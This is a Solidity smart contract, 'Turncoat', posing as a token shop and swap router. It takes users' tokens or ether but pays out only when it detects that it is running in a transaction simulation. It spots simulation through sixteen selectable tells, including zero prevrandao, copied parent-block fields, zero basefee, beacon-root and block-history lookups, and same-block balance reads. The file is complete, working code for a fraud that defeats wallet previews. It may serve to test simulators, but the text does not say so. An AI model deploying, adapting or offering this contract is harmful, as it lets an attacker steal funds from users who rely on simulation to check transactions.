// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IToken {
  function transfer(address to, uint256 amount) external returns (bool);
  function transferFrom(address from, address to, uint256 amount) external returns (bool);
  function balanceOf(address owner) external view returns (uint256);
}

/// @title A shop and router that pays while it believes to be simulated, and keeps everything otherwise.
contract Turncoat {
  enum Tell {
    Switch, // the owner's bit
    PrevRandao, // zero, as geth leaves it in eth_simulateV1
    FeeRecipient, // the parent's
    Time, // exactly twelve seconds after the parent
    SameTime, // the parent's own
    GasLimit, // the parent's
    BlockHash, // of the parent, zero
    Odd, // a bit of prevrandao
    ReadBefore, // its balances were read in this block
    ReadAfter, // it pays when its balances are read after the call, in the same block
    Number, // the parent's
    BaseFee, // zero, as without validation
    BlobBaseFee, // the parent's
    NoBeaconRoot, // EIP-4788 has no root for the block's time
    ZeroBeaconRoot, // EIP-4788 has a root of zero
    History // EIP-2935 has another hash of the parent
  }

  struct Due {
    address token;
    address recipient;
    uint256 amount;
    uint256 number;
  }

  struct SwapDescription {
    address srcToken;
    address dstToken;
    address srcReceiver;
    address dstReceiver;
    uint256 amount;
    uint256 minReturnAmount;
    uint256 flags;
  }

  address private constant NATIVE = 0xEeeeeEeeeEeEeeEeEeEeeEEEeeeeEeeeeeeeEEeE;
  address private constant BEACON_ROOTS = 0x000F3df6D732807Ef1319fB7B8bB8522d0Beac02;
  address private constant HISTORY = 0x0000F90827F1C53a10cb7A02335B175320002935;
  address private immutable owner = msg.sender;
  Tell public tell;
  bool public pays = true;
  address private feeRecipient;
  uint256 private time;
  uint256 private gasLimit;
  uint256 private number;
  uint256 private blobBaseFee;
  uint256 private readAt;
  Due private due;

  receive() external payable {}

  /// @notice Chooses how it tells a simulation, and remembers the block, which will be the parent of one.
  function arm(Tell tell_) external {
    require(msg.sender == owner);
    (tell, pays) = (tell_, true);
    (feeRecipient, time, gasLimit) = (block.coinbase, block.timestamp, block.gaslimit);
    (number, blobBaseFee) = (block.number, block.blobbasefee);
  }

  function flip(bool pays_) external {
    require(msg.sender == owner);
    pays = pays_;
  }

  /// @notice Sells `amount` of `token` for the value sent along.
  function buy(address token, uint256 amount) external payable {
    settle(token, msg.sender, amount);
  }

  /// @notice Takes `amount` of `token`, by an allowance from before.
  function visit(address token, uint256 amount) external {
    if (isSimulated()) return;
    IToken(token).transferFrom(msg.sender, address(this), amount);
    if (tell == Tell.ReadAfter) due = Due(token, msg.sender, amount, block.number);
  }

  /// @notice Is read as a token's, and writes, although the standard makes it a view.
  function balanceOf(address) external returns (uint256) {
    if (tell == Tell.ReadBefore) readAt = block.number;
    if (tell == Tell.ReadAfter && due.number == block.number) {
      due.number = 0;
      IToken(due.token).transfer(due.recipient, due.amount);
    }
    return 0;
  }

  /// @notice As a router.
  function swap(
    address,
    SwapDescription calldata desc,
    bytes calldata
  ) external payable returns (uint256 returned, uint256 spent) {
    (returned, spent) = (desc.minReturnAmount, desc.amount);
    if (desc.srcToken != NATIVE) IToken(desc.srcToken).transferFrom(msg.sender, address(this), spent);
    settle(desc.dstToken, desc.dstReceiver, returned);
  }

  function settle(address token, address recipient, uint256 amount) private {
    if (tell == Tell.ReadAfter) due = Due(token, recipient, amount, block.number);
    else if (isSimulated()) IToken(token).transfer(recipient, amount);
  }

  function isSimulated() private view returns (bool) {
    if (tell == Tell.Switch) return pays;
    if (tell == Tell.PrevRandao) return block.prevrandao == 0;
    if (tell == Tell.FeeRecipient) return block.coinbase == feeRecipient;
    if (tell == Tell.Time) return block.timestamp == time + 12;
    if (tell == Tell.SameTime) return block.timestamp == time;
    if (tell == Tell.GasLimit) return block.gaslimit == gasLimit;
    if (tell == Tell.BlockHash) return blockhash(block.number - 1) == 0;
    if (tell == Tell.ReadBefore) return readAt == block.number;
    if (tell == Tell.ReadAfter) return false;
    if (tell == Tell.Number) return block.number == number;
    if (tell == Tell.BaseFee) return block.basefee == 0;
    if (tell == Tell.BlobBaseFee) return block.blobbasefee == blobBaseFee;
    if (tell == Tell.History) return differ(ask(HISTORY, block.number - 1), blockhash(block.number - 1));
    if (tell == Tell.NoBeaconRoot) return ask(BEACON_ROOTS, block.timestamp).length == 0;
    if (tell == Tell.ZeroBeaconRoot) return !differ(ask(BEACON_ROOTS, block.timestamp), 0);
    return block.prevrandao % 2 == 1;
  }

  function ask(address target, uint256 question) private view returns (bytes memory answer) {
    (, answer) = target.staticcall(abi.encode(question));
  }

  function differ(bytes memory answer, bytes32 word) private pure returns (bool) {
    return keccak256(answer) != keccak256(abi.encode(word));
  }
}
